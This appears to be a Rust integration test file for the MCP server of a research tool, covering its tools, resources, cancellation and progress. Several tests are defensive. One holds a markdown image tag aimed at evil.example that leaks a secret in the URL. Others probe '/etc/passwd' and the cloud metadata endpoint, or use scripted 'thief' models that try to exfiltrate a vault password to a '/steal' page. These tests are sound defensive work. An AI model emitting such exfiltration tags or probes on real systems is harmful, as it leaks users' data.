//! The MCP server, spoken to line by line and over HTTP. Official clients try it in `make conformance`.

use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

use nexi_testkit::{LlmServer, Scripted, SearchServer, Site};
use serde_json::{Value, json};

use crate::support::{KEY, Place, json as parsed, long_page, stdout, web_settings};

const FACT: &str = "The lighthouse of Orvik was lit for the first time on 3 October 1877.";
const REPLY_WAIT: Duration = Duration::from_secs(20);

/// A client over standard input and output.
struct Client {
    child: Child,
    input: Option<ChildStdin>,
    lines: Receiver<Value>,
    next: u64,
    /// Notifications that came while a result was waited for.
    heard: Vec<Value>,
}

impl Client {
    fn start(place: &Place) -> Self {
        Self::start_with(place, json!({}))
    }

    /// A client that can do this.
    fn start_with(place: &Place, capabilities: Value) -> Self {
        let mut child = place.nexi(&["mcp"]).stdin(Stdio::piped()).spawn().expect("nexi runs");
        let input = child.stdin.take();
        let output = BufReader::new(child.stdout.take().expect("its output"));
        let (sender, lines) = channel();
        std::thread::spawn(move || {
            for line in output.lines().map_while(Result::ok) {
                let value = serde_json::from_str(&line).unwrap_or_else(|error| panic!("{error}: {line}"));
                if sender.send(value).is_err() {
                    return;
                }
            }
        });
        let mut client = Self { child, input, lines, next: 0, heard: Vec::new() };
        let hello = client.ask(
            "initialize",
            json!({"protocolVersion": "2025-06-18", "capabilities": capabilities, "clientInfo": {"name": "test", "version": "1"}}),
        );
        assert_eq!((&hello["serverInfo"]["name"], &hello["protocolVersion"]), (&json!("nexi"), &json!("2025-06-18")), "{hello}");
        assert!(hello["instructions"].as_str().unwrap().contains("untrusted"));
        client.tell("notifications/initialized", json!({}));
        client
    }

    fn write(&mut self, value: &Value) {
        let input = self.input.as_mut().expect("it is open");
        writeln!(input, "{value}").and_then(|()| input.flush()).expect("it listens");
    }

    fn tell(&mut self, method: &str, params: Value) {
        self.write(&json!({"jsonrpc": "2.0", "method": method, "params": params}));
    }

    /// Sends a request and returns its number.
    fn send(&mut self, method: &str, params: Value) -> u64 {
        self.next += 1;
        self.write(&json!({"jsonrpc": "2.0", "id": self.next, "method": method, "params": params}));
        self.next
    }

    fn reply(&mut self, id: u64) -> Value {
        // Replies come in any order.
        if let Some(at) = self.heard.iter().position(|heard| heard["id"] == json!(id)) {
            return self.heard.remove(at);
        }
        loop {
            let value = self.lines.recv_timeout(REPLY_WAIT).expect("a message");
            if value["id"] == json!(id) {
                return value;
            }
            self.heard.push(value);
        }
    }

    /// Waits for a question of the server's and answers it.
    fn answer(&mut self, method: &str, result: &Value) -> Value {
        loop {
            let at = self.heard.iter().position(|heard| heard["method"] == json!(method) && heard.get("id").is_some());
            if let Some(at) = at {
                let asked = self.heard.remove(at);
                self.write(&json!({"jsonrpc": "2.0", "id": asked["id"], "result": result}));
                return asked["params"].clone();
            }
            let value = self.lines.recv_timeout(REPLY_WAIT).expect("a message");
            self.heard.push(value);
        }
    }

    fn ask(&mut self, method: &str, params: Value) -> Value {
        let id = self.send(method, params);
        let reply = self.reply(id);
        assert!(reply.get("error").is_none(), "{method}: {reply}");
        reply["result"].clone()
    }

    fn call(&mut self, tool: &str, arguments: Value) -> Value {
        self.ask("tools/call", json!({"name": tool, "arguments": arguments, "_meta": {"progressToken": "p"}}))
    }

    /// Hangs up and waits for the end.
    fn end(mut self) -> i32 {
        drop(self.input.take());
        let started = Instant::now();
        loop {
            if let Some(status) = self.child.try_wait().expect("its state") {
                return status.code().unwrap_or(-1);
            }
            assert!(started.elapsed() < REPLY_WAIT, "it does not end");
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Client {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_research_search_read_and_remember() {
    let site = Site::start(&[("/orvik", &long_page("Orvik", 60, FACT))]).await;
    let url = site.url("/orvik");
    let search = SearchServer::start(200, &[("Orvik", &url, "A tower")]).await;
    let script = vec![
        Scripted::Calls(vec![("web_search", json!({"queries": ["orvik"]}))]),
        Scripted::Calls(vec![("web_get", json!({"urls": [url]}))]),
        Scripted::Calls(vec![("final_answer", json!({"answer": "It was lit on 3 October 1877 [1]."}))]),
    ];
    let model = LlmServer::start(KEY, Duration::ZERO, script).await;
    let place = Place::new(&web_settings(&model.base_url, &search.base_url, &site.host, ""));
    tokio::task::spawn_blocking(move || {
        let mut client = Client::start(&place);
        let tools = client.ask("tools/list", json!({}))["tools"].clone();
        let names: Vec<&str> = tools.as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect();
        assert_eq!(names, ["research", "search", "read", "library"]);
        assert_eq!(tools[0]["annotations"]["readOnlyHint"], json!(false));
        assert_eq!(tools[1]["annotations"]["readOnlyHint"], json!(true));
        assert_eq!(tools[0]["inputSchema"]["required"], json!(["query"]));

        let result = client.call("research", json!({"query": "When was the lighthouse lit?", "effort": "s", "verbose": true}));
        assert_eq!((&result["structuredContent"]["mode"], &result["structuredContent"]["method"]), (&json!("quick"), &Value::Null));
        let text = result["content"][0]["text"].as_str().unwrap();
        assert!(text.starts_with("It was lit on 3 October 1877 [1].\n\n## Sources\n\n- [1] Orvik - http"), "{text}");
        assert!(
            text.contains("## How it was researched\n\n- thinking\n- searching: orvik") && text.contains("answered; small effort, 3 steps"),
            "{text}"
        );
        let report = &result["structuredContent"];
        assert_eq!((&report["state"], &report["sources"][0]["url"]), (&json!("answered"), &json!(url)));
        let told: Vec<&Value> =
            client.heard.iter().filter(|heard| heard["method"] == "notifications/progress").map(|heard| &heard["params"]).collect();
        assert!(told.len() >= 5 && told.iter().all(|told| told["progressToken"] == "p"), "{told:?}");
        assert!(told.windows(2).all(|two| two[0]["progress"].as_f64() < two[1]["progress"].as_f64()), "progress grows: {told:?}");
        assert!(told.iter().any(|told| told["message"].as_str().unwrap().contains("step 1/8: searching: orvik")), "{told:?}");

        let found = client.call("search", json!({"queries": ["orvik", "tower"]}));
        assert_eq!(found["structuredContent"]["searches"][1]["results"][0]["description"], json!("A tower"));
        let read = client.call("read", json!({"urls": [url], "instructions": "when was it lit"}));
        assert!(read["structuredContent"]["pages"][0]["content"].as_str().unwrap().contains("3 October 1877"), "{read}");
        let full = client.call("read", json!({"urls": [url], "get_full": true}));
        assert!(full["content"][0]["text"].as_str().unwrap().len() > 10_000);

        let known = client.call("library", json!({"text": "lighthouse", "limit": 3}));
        let uri = known["structuredContent"]["results"][0]["uri"].as_str().unwrap().to_owned();
        assert_eq!(uri, format!("nexi://turn/{}", report["id"].as_str().unwrap()));
        let listed = client.ask("resources/list", json!({}));
        assert_eq!(
            (&listed["resources"][0]["uri"], &listed["resources"][0]["name"]),
            (&json!(uri), &json!("When was the lighthouse lit?"))
        );
        assert_eq!(client.ask("resources/templates/list", json!({}))["resourceTemplates"].as_array().map(Vec::len), Some(3));
        let answer = client.ask("resources/read", json!({"uri": uri}));
        assert!(answer["contents"][0]["text"].as_str().unwrap().contains("3 October 1877 [1]"), "{answer}");
        let source = client.ask("resources/read", json!({"uri": format!("{uri}/source/1")}));
        assert!(source["contents"][0]["text"].as_str().unwrap().contains(FACT));
        assert_eq!(source["contents"][0]["mimeType"], json!("text/markdown"));
        for uri in ["nexi://turn/none", "file:///etc/passwd", &format!("{uri}/source/9")] {
            let id = client.send("resources/read", json!({"uri": uri}));
            assert!(client.reply(id)["error"]["message"].as_str().unwrap().contains("nexi://turn/ID"), "{uri}");
        }
        for (tool, arguments, wanted) in [
            ("research", json!({}), "query"),
            ("research", json!({"query": "x", "effort": "xl"}), "xl"),
            ("research", json!({"query": " "}), "query:"),
            ("research", json!({"query": "x", "max_iter": 0}), "max_iter:"),
            ("search", json!({"queries": []}), "queries"),
            ("read", json!({"urls": ["http://169.254.169.254/"]}), "private network"),
            ("read", json!({"urls": [url], "use_chunks": true}), "instructions"),
            ("library", json!({"text": ""}), "text"),
            ("library", json!({"text": "x", "limit": 0}), "limit"),
        ] {
            let result = client.call(tool, arguments);
            assert_eq!(result["isError"], json!(true), "{result}");
            assert!(result["content"][0]["text"].as_str().unwrap().contains(wanted), "{result}");
        }
        let failed = client.call("read", json!({"urls": ["http://169.254.169.254/"]}));
        assert!(failed["structuredContent"]["pages"][0]["error"].is_string(), "the shape is kept: {failed}");
        // Searches of several clients do not disturb each other.
        let sent: Vec<u64> =
            (0..8).map(|_| client.send("tools/call", json!({"name": "library", "arguments": {"text": "lighthouse"}}))).collect();
        for id in sent {
            let reply = client.reply(id);
            assert_eq!(reply["result"]["structuredContent"]["results"].as_array().map(Vec::len), Some(1), "{reply}");
        }
        // What is deleted cannot be read any more.
        assert!(place.run(&["history", "clear", "--yes"]).status.success());
        let id = client.send("resources/read", json!({"uri": uri}));
        assert!(client.reply(id)["error"].is_object());
        assert_eq!(client.ask("resources/list", json!({}))["resources"], json!([]));
        let id = client.send("tools/call", json!({"name": "nexi_destroy", "arguments": {}}));
        assert!(client.reply(id)["error"].is_object());
        // A client that makes a mistake does not wait for ever.
        for (line, code) in [("nonsense", -32700), ("{\"id\": 1}", -32600)] {
            writeln!(client.input.as_mut().unwrap(), "{line}").unwrap();
            let answer = client.lines.recv_timeout(REPLY_WAIT).unwrap();
            assert_eq!(answer["error"]["code"], json!(code), "{answer}");
        }
        assert_eq!(client.ask("ping", json!({})), json!({}), "and goes on");
        assert_eq!(client.end(), 0, "it ends when the client hangs up");
    })
    .await
    .unwrap();
    assert_eq!((model.problems(), search.problems()), (Vec::<String>::new(), Vec::<String>::new()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_research_ends_when_nobody_wants_it() {
    let search = SearchServer::start(200, &[]).await;
    let model = LlmServer::start(KEY, Duration::ZERO, vec![Scripted::Silence, Scripted::Silence]).await;
    let place = Place::new(&web_settings(&model.base_url, &search.base_url, "wiki.lan", ""));
    let waiting = model.clone();
    tokio::task::spawn_blocking(move || {
        let mut client = Client::start(&place);
        let asked = |client: &mut Client, count: usize| {
            let id = client.send("tools/call", json!({"name": "research", "arguments": {"query": "What is slow?"}}));
            let started = Instant::now();
            while waiting.requests().len() < count {
                assert!(started.elapsed() < REPLY_WAIT, "the model is not asked");
                std::thread::sleep(Duration::from_millis(20));
            }
            id
        };
        let state = |place: &Place| parsed(&place.run(&["history", "--json", "--last", "1"]))[0]["state"].clone();
        let id = asked(&mut client, 1);
        client.tell("notifications/cancelled", json!({"requestId": id, "reason": "changed my mind"}));
        let started = Instant::now();
        while state(&place) != json!("cancelled") {
            assert!(started.elapsed() < REPLY_WAIT, "it goes on: {}", state(&place));
        }
        // Hanging up in the middle of the next one stops that, too.
        asked(&mut client, 2);
        assert_eq!(client.end(), 0);
        assert_eq!(state(&place), json!("cancelled"));
        assert_eq!(parsed(&place.run(&["history", "--json"])).as_array().map(Vec::len), Some(2));
    })
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_hears_something_while_a_model_thinks() {
    let search = SearchServer::start(200, &[]).await;
    let model = LlmServer::start(KEY, Duration::ZERO, vec![Scripted::Silence]).await;
    let place = Place::new(&web_settings(&model.base_url, &search.base_url, "wiki.lan", ""));
    tokio::task::spawn_blocking(move || {
        let mut client = Client::start(&place);
        let id = client
            .send("tools/call", json!({"name": "research", "arguments": {"query": "What is slow?"}, "_meta": {"progressToken": "p"}}));
        let mut before = 0.0;
        loop {
            let heard = client.lines.recv_timeout(REPLY_WAIT).expect("a client is not left without news");
            if heard["method"] != "notifications/progress" {
                continue;
            }
            let told = &heard["params"];
            assert_eq!(told["total"], json!(100.0), "{told}");
            let progress = told["progress"].as_f64().unwrap();
            assert!(progress > before && progress < 100.0, "{told}");
            before = progress;
            // How long it has been says that it still goes on.
            if told["message"].as_str().unwrap().ends_with(" s") {
                break;
            }
        }
        client.tell("notifications/cancelled", json!({"requestId": id, "reason": "enough"}));
        assert_eq!(client.end(), 0);
    })
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_research_goes_on_in_a_thread_or_is_kept_nowhere() {
    let search = SearchServer::start(200, &[]).await;
    let answer = |text: &str| Scripted::Calls(vec![("final_answer", json!({"answer": text}))]);
    let model = LlmServer::start(
        KEY,
        Duration::ZERO,
        vec![answer("First."), answer("Second."), answer("Nobody keeps this."), answer("Old."), answer("Yes.")],
    )
    .await;
    let place = Place::new(&web_settings(&model.base_url, &search.base_url, "wiki.lan", ""));
    tokio::task::spawn_blocking(move || {
        let mut client = Client::start(&place);
        let first = client.call("research", json!({"query": "The first?", "deep": null, "verbose": null, "private": null}));
        let thread = first["structuredContent"]["thread"].clone();
        let second = client.call("research", json!({"query": "And the second?", "thread": thread}));
        assert_eq!(second["structuredContent"]["thread"], thread, "{second}");
        let private = client.call("research", json!({"query": "A secret?", "private": true}));
        assert!(private["content"][0]["text"].as_str().unwrap().contains("Nobody keeps this."), "{private}");
        let kept = stdout(&place.run(&["history", "--json"]));
        assert!(kept.contains("The first?") && kept.contains("And the second?") && !kept.contains("A secret?"), "{kept}");
        for (arguments, wanted) in [
            (json!({"query": "x", "thread": thread, "private": true}), "private:"),
            (json!({"query": "x", "thread": "ffffffffffffffff"}), "thread:"),
        ] {
            let refused = client.call("research", arguments);
            assert_eq!(refused["isError"], json!(true), "{refused}");
            assert!(refused["content"][0]["text"].as_str().unwrap().contains(wanted), "{refused}");
        }
        // The names of the first version still work.
        let old = client.call("nexi_search", json!({"query": "By its old name?"}));
        assert!(old["content"][0]["text"].as_str().unwrap().contains("Old."), "{old}");
        // Other programs are not told of past research but where they ask for it.
        assert!(!model.requests().iter().any(|request| request.to_string().contains("library_search")));
        assert!(place.run(&["ask", "And the person?", "--json"]).status.code().is_some_and(|code| code < 2));
        assert!(model.requests().last().unwrap().to_string().contains("library_search"), "the person's own question may look back");
        assert_eq!(client.end(), 0);
    })
    .await
    .unwrap();
}

#[test]
fn other_programs_are_told_how_to_use_it() {
    let place = Place::new("");
    let text = crate::support::stdout(&place.run(&["mcp", "--print-config"]));
    let start = text.find('{').unwrap();
    let config: Value = serde_json::Deserializer::from_str(&text[start..]).into_iter().next().unwrap().unwrap();
    let server = &config["mcpServers"]["nexi"];
    assert!(text.contains("[mcp_servers.nexi]") && text.contains("\"context_servers\""), "{text}");
    assert_eq!(server["command"].as_str().unwrap(), env!("CARGO_BIN_EXE_nexi"));
    assert_eq!(server["args"][0], json!("mcp"));
    for name in ["Claude Code", "Claude Desktop", "VS Code", "Cursor", "Codex", "Zed", "Windsurf", "Gemini CLI", "Inspector"] {
        assert!(text.contains(name), "{name}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_that_can_ask_shows_the_plan() {
    tokio::task::spawn_blocking(|| {
        let place = Place::new("search_backends = [\"documents\"]\n");
        let mut client = Client::start_with(&place, json!({"elicitation": {}}));
        let question = json!({"query": "Where are keys kept? Which key opens the popup?", "deep": true, "verbose": true});
        let begin = |client: &mut Client| {
            let call = json!({"name": "research", "arguments": question, "_meta": {"progressToken": "p"}});
            client.send("tools/call", call)
        };
        // Changed, after a number that is none.
        let id = begin(&mut client);
        let asked = client.answer("elicitation/create", &json!({"action": "accept", "content": {"leave_out": "7"}}));
        let message = asked["message"].as_str().unwrap();
        assert!(message.contains("1. ") && message.contains("2. "), "{asked}");
        assert_eq!(asked["requestedSchema"]["properties"]["leave_out"]["type"], json!("string"), "{asked}");
        let again = client
            .answer("elicitation/create", &json!({"action": "accept", "content": {"leave_out": "1", "add": "What is the tray for?"}}));
        assert!(again["message"].as_str().unwrap().starts_with("Enter task numbers"), "{again}");
        let text = client.reply(id)["result"]["content"][0]["text"].as_str().unwrap().to_owned();
        assert!(text.contains("begins: What is the tray for?") && !text.contains("begins: Where are keys kept"), "{text}");
        // As it is, and not at all.
        let id = begin(&mut client);
        client.answer("elicitation/create", &json!({"action": "accept"}));
        assert!(client.reply(id)["result"]["content"][0]["text"].as_str().unwrap().contains("begins: Where are keys kept"));
        let id = begin(&mut client);
        client.answer("elicitation/create", &json!({"action": "decline"}));
        let reply = client.reply(id);
        assert!(reply["result"]["isError"] == json!(true) && reply.to_string().contains("cancelled"), "{reply}");
        assert_eq!(client.end(), 0);
    })
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_research_deeply() {
    tokio::task::spawn_blocking(|| {
        // Nobody can be asked about the plan, whatever the settings say.
        let place = Place::new("search_backends = [\"documents\"]\n[deep]\nplan = \"ask\"");
        let mut client = Client::start(&place);
        let result =
            client.call("research", json!({"query": "Where are keys kept? Which key opens the popup?", "deep": true, "verbose": true}));
        let report = &result["structuredContent"];
        assert_eq!((&report["mode"], &report["method"]["researchers"], &report["state"]), (&json!("deep"), &json!(2), &json!("answered")));
        let text = result["content"][0]["text"].as_str().unwrap();
        assert!(text.contains("1.2 begins: Which key opens the popup?") && text.contains("answered; deep, medium effort"), "{text}");
    })
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn beside_the_web_nothing_of_the_documents_leaves() {
    let site = Site::start(&[("/steal", "<p>Thank you.</p>")]).await;
    let search = SearchServer::start(200, &[]).await;
    let model = crate::egress::thief(&site.url("/steal")).await;
    let place = crate::egress::beside_the_web(&model, &search, &site, "");
    let result = tokio::task::spawn_blocking(move || {
        let mut client = Client::start(&place);
        client.call("research", json!({"query": "What is the password of the vault?"}))
    });
    assert!(result.await.unwrap().to_string().contains("vault"));
    assert_eq!(site.asked("/steal"), 0, "nobody can be asked over MCP, so it is refused");
    assert!(model.requests().iter().any(|request| request.to_string().contains("neither from search results")), "the model is told why");
    assert!(!search.queries().iter().any(|query| query.contains("4711")), "{:?}", search.queries());
}

#[tokio::test(flavor = "multi_thread")]
async fn documents_alone_never_reach_the_web() {
    let site = Site::start(&[("/steal", "<p>Thank you.</p>")]).await;
    let model = crate::egress::obedient(&site.url("/steal")).await;
    let place = crate::egress::tempting(&model, &site);
    let result = tokio::task::spawn_blocking(move || {
        let mut client = Client::start(&place);
        client.call("research", json!({"query": "What is the password of the vault?", "focus": "documents"}))
    });
    assert!(result.await.unwrap().to_string().contains("vault"));
    crate::egress::nothing_left(&model, &site);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_client_may_show_holds_nothing_live() {
    let answer = "The wall is old <img src=https://evil.example/y.png?said=secret> and long.";
    let model = LlmServer::start(KEY, Duration::ZERO, vec![Scripted::Text(answer)]).await;
    let search = SearchServer::start(200, &[]).await;
    let site = Site::start(&[]).await;
    let place = Place::new(&web_settings(&model.base_url, &search.base_url, &site.host, ""));
    // What the person told Nexi of themselves is not for other programs.
    assert!(place.run(&["memory", "add", "I am called Ada."]).status.success());
    let shown = tokio::task::spawn_blocking(move || {
        let mut client = Client::start(&place);
        let answered = client.call("research", json!({"query": "How old is the wall?"}));
        let found = client.call("library", json!({"text": "wall"}));
        assert_eq!(found["structuredContent"]["results"].as_array().map(Vec::len), Some(1), "{found}");
        [answered["content"][0]["text"].clone(), found["content"][0]["text"].clone()]
    });
    for text in shown.await.unwrap() {
        assert!(text.as_str().is_some_and(|text| text.contains("wall") && !text.contains("<img")), "{text}");
    }
    assert!(!model.requests().iter().any(|request| request.to_string().contains("Ada")), "memories stay here");
}
